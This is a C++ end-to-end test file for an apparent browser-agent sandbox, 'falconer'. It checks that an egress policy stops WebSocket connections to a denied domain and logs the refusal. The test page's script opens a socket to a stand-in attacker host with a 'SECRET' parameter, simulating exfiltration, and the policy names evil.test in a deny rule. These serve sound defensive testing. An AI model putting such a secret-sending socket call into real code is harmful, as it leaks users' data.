// The policy's rules for connecting, at the way out: what never stops in the browser is held to
// them too, before a name is looked up or a byte is sent.

#include <gtest/gtest.h>

#include "tests/e2e/house.h"

namespace falconer::test {
namespace {

constexpr char kShopOnly[] = R"(
policy: {name: shop-only, version: "1"}
rules:
  - {name: anything, when: always, then: allow}
connect:
  - {name: the shop, when: {domain: shop.test}, then: allow}
  - {name: not there, when: {domain: evil.test}, then: {deny: nothing connects there}}
)";

constexpr char kEverywhere[] = R"(
policy: {name: everywhere, version: "1"}
rules:
  - {name: anything, when: always, then: allow}
)";

// Both hosts are in the domain rules; the policy alone tells them apart.
void Under(std::string_view yaml, std::function<Task<void>(House*)> body) {
  const auto folder = TempDir::Create("falconer-connect-test-");
  ASSERT_TRUE(folder);
  const auto file = folder->path() / "policy.yaml";
  ASSERT_TRUE(WriteFileAtomic(file, yaml));
  House::Run({.allow = {"{EVIL}", "{EVIL_ADDRESS}"}, .settings = {"policy.file=" + file.string()}},
             std::move(body));
}

// Opens two sockets and tells what became of both.
Task<Answer> OpenSockets(House* house) {
  house->site.Serve("/sockets", house->Filled(R"(<title>t</title><button id=go>Show more</button>
    <p id=got></p><script>
    const open = url => new Promise(done => {
      const socket = new WebSocket(url);
      socket.onopen = () => done('open');
      socket.onerror = () => done('error');
    });
    go.onclick = () => Promise.all([open('ws://{SHOP}/ws'), open('ws://{EVIL}/w?SECRET')])
      .then(all => got.textContent = all.join() + ' over')</script>)"));
  const auto shown = co_await house->Navigate(house->Url("/sockets"));
  EXPECT_TRUE(shown.is_success()) << shown.text();
  co_return co_await house->Do(
      {{"action_type", "click"}, {"selector", "#go"}},
      {{"wait_conditions", json::array{json::object{{"kind", "text"}, {"text", "over"}}}}});
}

TEST(ConnectRuleTest, ASocketThatThePolicyDeniesSendsNoByte) {
  Under(kShopOnly, [](House* house) -> Task<void> {
    const auto clicked = co_await OpenSockets(house);
    const std::string got = co_await house->Read("#got");
    EXPECT_EQ(got, "open,error over") << clicked.text();
    EXPECT_EQ(house->evil.connections(), 0);
    EXPECT_EQ(house->Asked("evil.test"), 0) << "nor is its name looked up";

    boost::system::error_code none;
    const json::value all(clicked.all);
    const json::value* refused = all.find_pointer("/network_summary/egress/refusals/0", none);
    EXPECT_TRUE(refused != nullptr) << clicked.text();
    if (refused == nullptr) co_return;
    EXPECT_EQ(refused->at("host"), "evil.test");
    EXPECT_EQ(refused->at("reason"), "policy_denied");
    EXPECT_EQ(refused->at("rule"), "not there");
    EXPECT_TRUE(refused->at("decision").as_string().starts_with("egr_"));
  });
}

TEST(ConnectRuleTest, ASocketThatNoRuleDeniesIsOpened) {
  Under(kEverywhere, [](House* house) -> Task<void> {
    const auto clicked = co_await OpenSockets(house);
    const std::string got = co_await house->Read("#got");
    EXPECT_EQ(got, "open,error over") << "the canary speaks no WebSocket";
    EXPECT_GE(house->evil.connections(), 1) << clicked.text();
  });
}

TEST(ConnectRuleTest, APageThatMayBeOpenedIsOpenedWhateverMayConnect) {
  Under(kShopOnly, [](House* house) -> Task<void> {
    const auto went = co_await house->Navigate(house->EvilUrl("/"));
    EXPECT_TRUE(went.is_success()) << went.text();
    EXPECT_GE(house->evil.connections(), 1);
  });
}

}  // namespace
}  // namespace falconer::test
